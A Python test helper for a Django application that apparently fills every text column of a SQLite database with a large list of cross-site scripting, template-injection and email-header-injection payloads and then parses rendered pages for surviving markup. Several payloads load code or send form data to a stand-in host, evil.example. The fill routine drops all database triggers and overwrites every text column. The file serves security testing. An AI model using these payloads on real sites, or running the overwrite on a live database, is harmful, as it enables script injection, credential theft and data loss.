"""Text that tries to be more than text, put wherever the database keeps words, and what a page makes of it."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from django.apps import apps
from django.db import connection, models

RAN = "window.__xss=1"
MARK = "7f3a"  # in each, so that it can be told where they came
PAYLOADS = tuple(
    f"{payload} {MARK}"
    for payload in (
        # elements
        *(f"<script>{RAN}</script>", f"<ScRiPt>{RAN}</sCrIpT>", f"<scr<script>ipt>{RAN}</script>"),
        *(f"<script\x20type='text/javascript'>{RAN}</script>", "<script src=//evil.example/x.js></script>"),
        *(f"<img src=x onerror={RAN}>", f'<img src="x" onerror="{RAN}">', f"<img/src=x/onerror={RAN}>"),
        *(f"<body onload={RAN}>", f"<input autofocus onfocus={RAN}>", f"<details open ontoggle={RAN}>x</details>"),
        *(f"<video><source onerror={RAN}></video>", f"<audio src=x onerror={RAN}>", f"<marquee onstart={RAN}>x"),
        *(f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>", f"<iframe src=javascript:{RAN}></iframe>"),
        *("<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<base href=//evil.example/>"),
        *(f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>", "<link rel=stylesheet href=//evil.example>"),
        *("<style>@import '//evil.example/x.css';</style>", "<style>*{display:none}</style>", "<!--", "--><b>x"),
        *("<form action=//evil.example><input type=password>", f"<button formaction=javascript:{RAN}>x</button>"),
        # vector graphics and mathematics
        *(f"<svg onload={RAN}>", f"<svg><script>{RAN}</script></svg>", f"<svg><animate onbegin={RAN} attributeName=x>"),
        *(f"<svg><a xlink:href=javascript:{RAN}><text>x</text></a></svg>", f"<math href=javascript:{RAN}>x</math>"),
        f"<svg></p><style><g title='</style><img src=x onerror={RAN}>'>",
        # out of an attribute, an element of text, a script, a style sheet
        *(f'" onmouseover="{RAN}" x="', f"' onfocus='{RAN}' autofocus x='", f'"><script>{RAN}</script>'),
        *(f"'><img src=x onerror={RAN}>", f"` onclick=`{RAN}", f"x onmouseover={RAN} x"),
        f"</textarea><svg onload={RAN}>",
        *(f"</title><script>{RAN}</script>", f"</script><script>{RAN}</script>", f"</style><img src=x onerror={RAN}>"),
        *(f"</option></select><svg onload={RAN}>", f"';{RAN};//", f'";{RAN};//', f"\\');{RAN};//", f"${{{RAN}}}"),
        *(f"\u2028{RAN}//", "}*{background:url(//evil.example/x)}", f"x:expression({RAN})"),
        # addresses
        *(f"javascript:{RAN}", f"JaVaScRiPt\t:{RAN}//", f"data:text/html,<script>{RAN}</script>", f"vbscript:{RAN}"),
        # templates and markup
        *("{{ settings.SECRET_KEY }}", "{% load static %}{% static 'x' %}", f"[x](javascript:{RAN})"),
        *(f"![x](x\" onerror=\"{RAN})", f"<javascript:{RAN}>", f"&lt;script&gt;{RAN}&lt;/script&gt;"),
        # other letters, and other lines
        *(f"＜script＞{RAN}＜/script＞", f"<\u200bscript>{RAN}</script>", f"\u202e<script>{RAN}</script>"),
        *("x\r\nBcc: alla@evil.example\r\n\r\nx", "x\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM"),
        *('x\n{"level": "INFO", "message": "påhittad"}', f"\ufeff<script>{RAN}</script>"),
    )
)  # fmt: skip
ALL = "\n".join(PAYLOADS)

# Names, sums and states that nobody writes: a page that cannot find them says nothing of how it shows text.
NOT_WRITTEN = {
    *("slug", "username", "password", "digest", "hash", "table", "seal", "previous_seal", "html", "based_on"),
    *("renderer", "form", "page", "symbol", "key", "snapshot", "request", "history_type", "fill", "ink", "direction"),
    *("loose", "exact", "to", "email", "group"),
}
SENTENCE = re.compile(r"\w[^\n]*\s\w")  # of a snapshot's strings, those that people wrote
LEADING = {"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href"}
APPS = ("activities", "reporting", "lovplan")


def written() -> Iterator[tuple[type[models.Model], list[str]]]:
    """Each table of ours with its columns of words."""
    for model in apps.get_models(include_auto_created=True):
        if model._meta.app_label in APPS:
            names = [
                str(field.column)
                for field in model._meta.concrete_fields
                if isinstance(field, models.CharField | models.TextField) and not field.choices
                if field.name not in NOT_WRITTEN and not field.name.endswith("sha256")
            ]
            if names:
                yield model, names


def spoil() -> int:
    """Every text of the database is all payloads at once, each with its row's key so that names stay apart. The guards
    of the record are taken away for it. SQLite, which asks for no length. How many columns it came to.
    """
    count = 0
    with connection.cursor() as cursor:
        cursor.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")
        for (name,) in cursor.fetchall():
            cursor.execute(f'DROP TRIGGER "{name}"')
        for model, columns in written():
            key, table = model._meta.pk.column, model._meta.db_table
            for number, column in enumerate(columns):
                turned = "\n".join(PAYLOADS[number % 7 :] + PAYLOADS[: number % 7])
                turned = f"https://lank.example/{turned}" if column == "link" else turned  # the database asks for it
                cursor.execute(f'UPDATE "{table}" SET "{column}" = %s || "{key}" WHERE "{column}" <> %s', [turned, ""])
            count += len(columns)
        for table in ("reporting_sealedreport", "reporting_presentedmonth"):
            cursor.execute(f'SELECT id, snapshot FROM "{table}"')
            for pk, snapshot in cursor.fetchall():
                told = json.dumps(_spoilt(json.loads(snapshot)), ensure_ascii=False)
                cursor.execute(f'UPDATE "{table}" SET snapshot = %s WHERE id = %s', [told, pk])
    return count


def _spoilt(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _spoilt(each) for name, each in value.items()}
    if isinstance(value, list):
        return [_spoilt(each) for each in value]
    return ALL if isinstance(value, str) and SENTENCE.match(value) else value


class Marks(HTMLParser):
    """What of a page is no text: elements with their attributes, addresses that run something or lead to another
    site's file, and scripts that stand in it.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.shape: set[tuple[str, str]] = set()  # (element, attribute), "" for the element itself
        self.astray: list[str] = []
        self._script = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        self.shape |= {(tag, name) for name in ("", *dict(attrs))}
        self.astray += [f"{tag} {name}={value[:80]}" for name, value in attrs if value and _astray(tag, name, value)]

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.astray.append(f"script: {data[:80]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def _astray(tag: str, name: str, value: str) -> bool:
    address = re.sub(r"[\x00-\x20]", "", value)
    if name not in LEADING or "[" in address or (tag in ("img", "link") and address.startswith("data:image/")):
        return False
    parts = urlsplit(address)
    return parts.scheme not in ("", "http", "https", "mailto", "tel") or parts.netloc == "evil.example"
